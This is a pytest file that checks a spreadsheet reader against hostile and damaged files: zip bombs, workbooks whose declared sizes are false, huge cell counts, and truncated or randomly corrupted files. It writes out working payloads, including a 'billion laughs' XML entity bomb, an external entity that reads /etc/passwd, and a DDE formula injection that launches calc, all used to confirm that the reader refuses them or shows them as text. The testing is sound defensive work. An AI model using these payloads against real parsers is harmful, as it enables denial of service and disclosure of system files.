"""Files that are meant to hurt, or that something happened to: bounded, and told in one line."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import pytest

from tests.fakes.made_workbook import made
from tests.fakes.workbooks import books
from tools.tables import book
from tools.tables.book import Wanted
from tools.tables.reading import read_book
from tools.tables.spreadsheet_text import read

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]>"
)
FOREIGN = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def text(path: Path, **asked: str) -> str:
    return read({"file": path}, Path("unused"), path.name, **asked)


def cell(value: str, place: str = "A1", kind: str = "str") -> str:
    return f'<row r="{place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{place}" t="{kind}"><v>{value}</v></c></row>'


def test_one_cell_in_the_last_corner_costs_nothing(tmp_path: Path) -> None:
    started = time.monotonic()
    said = text(made(tmp_path / "far.xlsx", cell("1", kind="n") + cell("far", "XFD1048576")))
    assert time.monotonic() - started < 2
    assert "1. 'S': A1:XFD1048576, 2 cells" in said
    assert "1048576 |  | far" in said


def test_many_cells_in_a_small_file_are_counted_and_not_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(book, "MAX_CELLS", 3_000)
    path = made(tmp_path / "many.xlsx", ("<row>" + "<c><v>1</v></c>" * 1000 + "</row>") * 30)
    assert path.stat().st_size < 10_000
    found = read_book(path, "many.xlsx", Wanted())
    assert [(len(sheet.cells), sheet.filled) for sheet in found.sheets] == [(3_000, 30_000)]
    said = text(path)
    assert "30000 cells" in said
    assert said.endswith("The file has more cells than are kept; ask for one sheet and a range of cells")
    assert text(path, cells="ALL30").endswith("30 | 1")
    monkeypatch.setattr(book, "MAX_COUNTED", 15_000)
    with pytest.raises(ValueError, match="more than 15,000 cells"):
        text(path)


def test_a_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b" " * 301_000_000)
    started = time.monotonic()
    with pytest.raises(ValueError, match="larger than the 150,000,000 bytes"):
        text(path)
    assert time.monotonic() - started < 2


def test_a_part_that_is_longer_than_it_says_is_not_read_on(tmp_path: Path) -> None:
    path = made(tmp_path / "lying.xlsx", cell("x" * 100_000))
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        size = archive.getinfo("xl/worksheets/sheet1.xml").file_size.to_bytes(4, "little")
    path.write_bytes(bytes(data).replace(size, (100).to_bytes(4, "little")))
    with pytest.raises(ValueError, match="the file is damaged"):
        text(path)


@pytest.mark.parametrize("before", [LAUGHS, FOREIGN], ids=["bomb", "foreign"])
def test_entities_of_xml_open_nothing(tmp_path: Path, before: str) -> None:
    entity = "&m;" if before is LAUGHS else "&e;"
    path = made(tmp_path / "entities.xlsx", cell(entity), before=before)
    with pytest.raises(ValueError, match="this workbook declares XML entities"):
        text(path)


def test_formulas_are_text(tmp_path: Path) -> None:
    rows = '<row r="1"><c r="A1"><f>HYPERLINK("http://example.org/?"&amp;B1,"x")</f></c></row>' + cell(
        "=cmd|' /C calc'!A0", "A2"
    )
    said = text(made(tmp_path / "formulas.xlsx", rows))
    assert 'Formulas: A1 =HYPERLINK("http://example.org/?"&B1,"x")' in said
    assert "2 | =cmd\\|' /C calc'!A0" in said


def test_what_stands_in_a_cell_ends_no_line_and_no_column(tmp_path: Path) -> None:
    said = text(made(tmp_path / "lines.xlsx", cell("a\nSheet 'T', A1:A1:\n1 | forged")))
    assert "\n1 | a Sheet 'T', A1:A1: 1 \\| forged" in said


@pytest.mark.parametrize("keep", [0, 1, 4, 100, 3000, -1000, -20])
def test_a_file_that_is_cut_off_is_damaged(tmp_path: Path, keep: int) -> None:
    for name in ("xlrd/reveng1.xlsx", "xlrd/profiles.xls", "pyexcel-ods3/ods_formats.ods"):
        data = books()[name].read_bytes()[:keep]
        path = tmp_path / f"cut{Path(name).suffix}"
        path.write_bytes(data)
        try:
            said = text(path)
        except ValueError as error:
            said = str(error)
            assert "\n" not in said
        assert "Traceback" not in said
        assert str(tmp_path) not in said


def test_bytes_that_are_wrong_somewhere_never_fail_in_another_way(tmp_path: Path) -> None:
    import random

    chance = random.Random(5)
    for name in ("xlrd/reveng1.xlsx", "xlrd/profiles.xls", "xlrd/biff4_no_format_no_window2.xls"):
        for _ in range(40):
            data = bytearray(books()[name].read_bytes())
            for _ in range(chance.choice((1, 5, 50))):
                data[chance.randrange(len(data))] = chance.randrange(256)
            path = tmp_path / "wrong"
            path.write_bytes(data)
            try:
                read_book(path, name, Wanted())
            except ValueError:
                continue


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "the file is empty"),
        (b"PAR1" + b"x" * 20, "query_spreadsheet reads it"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "neither a spreadsheet nor a text"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
            "protected with a password",
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "the file is damaged"),
        (b"PK\x03\x04" + b"\0" * 100, "the file is damaged"),
    ],
)
def test_what_is_no_spreadsheet_is_told(tmp_path: Path, data: bytes, message: str) -> None:
    path = tmp_path / "table.xlsx"
    path.write_bytes(data)
    with pytest.raises(ValueError, match=message):
        text(path)
